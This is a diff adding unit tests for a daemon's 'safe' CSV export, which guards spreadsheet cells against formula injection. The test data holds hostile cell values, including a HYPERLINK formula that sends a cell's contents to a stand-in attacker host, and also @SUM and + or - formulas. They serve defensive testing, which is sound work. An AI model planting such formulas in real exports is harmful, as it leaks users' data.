@@ -13,6 +13,7 @@
 
 The daemon is $LEADTIME_BIN; it is stopped by its own pid.
 """
+import datetime
 import http.client
 import json
 import os
@@ -163,6 +164,160 @@ class FileNames(unittest.TestCase):
         self.assertEqual(r.returncode, 2, err)
         self.assertEqual(len(err.splitlines()), 1, err)
         self.assertIn("c\\x0d\\x0a<2>forged.ini: cannot open config", err)
+
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PIT_TEXT = {"creator", "employee", "department", "ticket_id"}
+
+
+def is_number(cell):
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+class SpreadsheetGuard(unittest.TestCase):
+    """format=csv&safe=1 (issue 12): every text cell a spreadsheet would
+    evaluate (OWASP: beginning with = + - @, tab, CR) gets a leading single
+    quote (a ticket id "-5" too: it is text); every other cell, and every
+    number the daemon wrote (negative ones included), is the same as
+    without safe=1.  Checked cell by cell against the
+    plain export, on the pit CSV, an analytics table and the CLI."""
+    HOSTILE = [
+        # ticket_id, creator, employee, department
+        ("=T1", "=HYPERLINK(\"http://e.vil/?\"&A1,\"x\")", "Ana Lima", "Sales"),
+        ("@T2", "+1+1", "=Eve", "@Ops"),
+        ("T3", "-2+3", "@SUM(A1:A9)", "Sales"),
+        ("T4", "Plain Creator", "Bo\tb", "@Ops"),
+        ("-5", "-Dee", "Cy -1", "Sales"),
+    ]
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = tempfile.mkdtemp(prefix="lt-guard-")
+        cls.ini = os.path.join(cls.tmp, "g.ini")
+        with open(cls.ini, "w") as f:
+            f.write("[data]\ndb = g.db\nas_of = %s\nseed_demo = false\n"
+                    "[pipeline]\ndepartments = Sales, @Ops\nsla_days = 10, 20\n" % AS_OF)
+        rows = ["ticket_id,creator,employee,department,opened_on,closed_on"]
+        for i, (tid, creator, emp, dept) in enumerate(cls.HOSTILE):
+            q = lambda v: '"%s"' % v.replace('"', '""')
+            opened = datetime.date(2026, 10, 1 + i)
+            closed = opened + datetime.timedelta(days=4 + 7 * i)  # lead times differ
+            rows.append(",".join([q(tid), q(creator), q(emp), q(dept), opened.isoformat(),
+                                  closed.isoformat() if i != 3 else ""]))
+        csv_path = os.path.join(cls.tmp, "t.csv")
+        with open(csv_path, "w", newline="") as f:
+            f.write("\n".join(rows) + "\n")
+        r = run(["import", "--config", cls.ini, csv_path])
+        assert r.returncode == 0, r.stderr
+        cls.d = daemon.Daemon(cls.ini)
+
+    @classmethod
+    def tearDownClass(cls):
+        rc = cls.d.stop()
+        shutil.rmtree(cls.tmp, ignore_errors=True)
+        assert rc == 0, cls.d.text()[-3000:]
+
+    def get(self, target):
+        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=30)
+        c.request("GET", target)
+        r = c.getresponse()
+        body = r.read()
+        c.close()
+        return r.status, body
+
+    def rows(self, text):
+        import csv
+        import io
+        return list(csv.reader(io.StringIO(text.decode("utf-8"), newline="")))
+
+    def compare(self, plain, safe, text_cols):
+        """safe = plain with the guard on exactly the cells of the text
+        columns that need it; (the number of guarded cells, plain rows)."""
+        p, s = self.rows(plain), self.rows(safe)
+        self.assertEqual(len(p), len(s))
+        self.assertEqual(p[0], s[0])
+        text = [name in text_cols for name in p[0]]
+        self.assertEqual(sum(text), len(text_cols), p[0])
+        guarded = 0
+        for pr, sr in zip(p[1:], s[1:]):
+            self.assertEqual(len(pr), len(sr))
+            for is_text, a, b in zip(text, pr, sr):
+                if is_text and a.startswith(TRIGGERS):
+                    self.assertEqual(b, "'" + a)
+                    guarded += 1
+                else:
+                    self.assertEqual(b, a)
+        return guarded, p
+
+    def test_pit_csv(self):
+        q = "/api/v1/pit?format=csv&from=2026-10-01&to=%s" % AS_OF
+        st, plain = self.get(q)
+        self.assertEqual(st, 200)
+        st, safe = self.get(q + "&safe=1")
+        self.assertEqual(st, 200)
+        guarded, rows = self.compare(plain, safe, PIT_TEXT)
+        # every hostile value occurs, so every trigger was exercised
+        cells = set(c for r in rows for c in r)
+        for tid, creator, emp, dept in self.HOSTILE:
+            for v in (tid, creator, emp, dept):
+                self.assertIn(v, cells)
+        self.assertGreater(guarded, len(rows))  # more than one per row
+        # safe=0 is the plain export
+        st, zero = self.get(q + "&safe=0")
+        self.assertEqual(zero, plain)
+        # the numeric columns stay numbers
+        header = rows[0]
+        for r in rows[1:]:
+            for name in ("initiated_contact", "is_open", "ticket_age", "ticket_closed"):
+                self.assertTrue(is_number(r[header.index(name)]))
+
+    def test_analytics_table(self):
+        """A department's employee table: names guarded, negative scores
+        (numbers the daemon wrote) not."""
+        q = "/api/v1/departments/Sales?format=csv&table=employees&from=2026-10-01&to=%s" % AS_OF
+        st, plain = self.get(q)
+        self.assertEqual(st, 200, plain)
+        st, safe = self.get(q + "&safe=1")
+        self.assertEqual(st, 200)
+        guarded, rows = self.compare(plain, safe, {"name", "flags"})
+        self.assertGreaterEqual(guarded, 1)
+        negative = [c for r in rows[1:] for c in r if c.startswith("-") and is_number(c)]
+        self.assertTrue(negative, "no negative number to check: %r" % rows)
+        self.assertNotIn(b"'-", safe)  # no number was quoted
+        # the ETag of the guarded table is its own
+        c = http.client.HTTPConnection("127.0.0.1", self.d.port, timeout=30)
+        c.request("GET", q)
+        e1 = c.getresponse()
+        e1.read()
+        c.request("GET", q + "&safe=1")
+        e2 = c.getresponse()
+        e2.read()
+        c.close()
+        self.assertNotEqual(e1.getheader("ETag"), e2.getheader("ETag"))
+
+    def test_bad_safe(self):
+        for q, msg in (("/api/v1/pit?format=json&safe=1&from=2026-10-01&to=2026-10-02",
+                        b"safe: only with format=csv"),
+                       ("/api/v1/pit?safe=2&from=2026-10-01&to=2026-10-02", b"safe: '2'"),
+                       ("/api/v1/overview?safe=1", b"safe: only with format=csv")):
+            st, body = self.get(q)
+            self.assertEqual(st, 400, body)
+            self.assertIn(msg, body)
+
+    def test_cli_pit_safe(self):
+        args = ["pit", "--config", self.ini, "--from", "2026-10-01", "--to", AS_OF]
+        plain, safe = run(args), run(args + ["--safe"])
+        self.assertEqual(plain.returncode, 0, plain.stderr)
+        self.assertEqual(safe.returncode, 0, safe.stderr)
+        guarded, _ = self.compare(plain.stdout, safe.stdout, PIT_TEXT)
+        self.assertGreater(guarded, 0)
+        # the same bytes as the HTTP export
+        st, body = self.get("/api/v1/pit?format=csv&safe=1&from=2026-10-01&to=%s" % AS_OF)
+        self.assertEqual(body, safe.stdout)
 
 
 if __name__ == "__main__":
